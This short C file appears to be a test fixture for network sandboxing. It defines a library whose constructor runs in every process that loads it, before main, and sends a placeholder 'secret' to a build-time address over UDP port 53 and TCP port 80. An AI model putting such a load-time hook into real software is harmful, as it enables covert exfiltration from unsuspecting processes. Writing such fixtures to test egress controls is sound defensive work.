// A library that dials TO from every process that loads it, before main().
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>

static void dial(int kind, unsigned short port) {
  const int s = socket(AF_INET, kind | SOCK_NONBLOCK, 0);
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
  inet_pton(AF_INET, TO, &to.sin_addr);
  if (connect(s, (struct sockaddr*)&to, sizeof to) == 0 || kind == SOCK_DGRAM) {
    send(s, "secret", 6, MSG_NOSIGNAL);
  }
  close(s);
}

__attribute__((constructor)) static void rude(void) {
  dial(SOCK_DGRAM, 53);
  dial(SOCK_STREAM, 80);
}
